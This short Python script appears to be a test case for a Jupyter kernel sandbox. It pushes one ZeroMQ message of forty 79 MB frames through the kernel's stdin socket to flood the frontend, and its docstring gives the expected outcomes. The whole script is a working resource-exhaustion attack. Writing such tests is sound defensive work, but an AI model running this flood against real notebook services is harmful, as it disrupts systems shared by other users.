"""Sends one message of many frames of 79 MB each, which no limit on a frame or on the number of messages stops.

Outcome: full or output flood or suspicious
"""

import time

import zmq

kernel = get_ipython().kernel
identity = kernel.get_parent("shell")["header"]["session"].encode()
frame = bytearray(79_000_000)
kernel.stdin_socket.send(identity, zmq.SNDMORE)
for _ in range(40):
    kernel.stdin_socket.send(frame, zmq.SNDMORE, copy=False)
kernel.stdin_socket.send(b"end")
time.sleep(5)
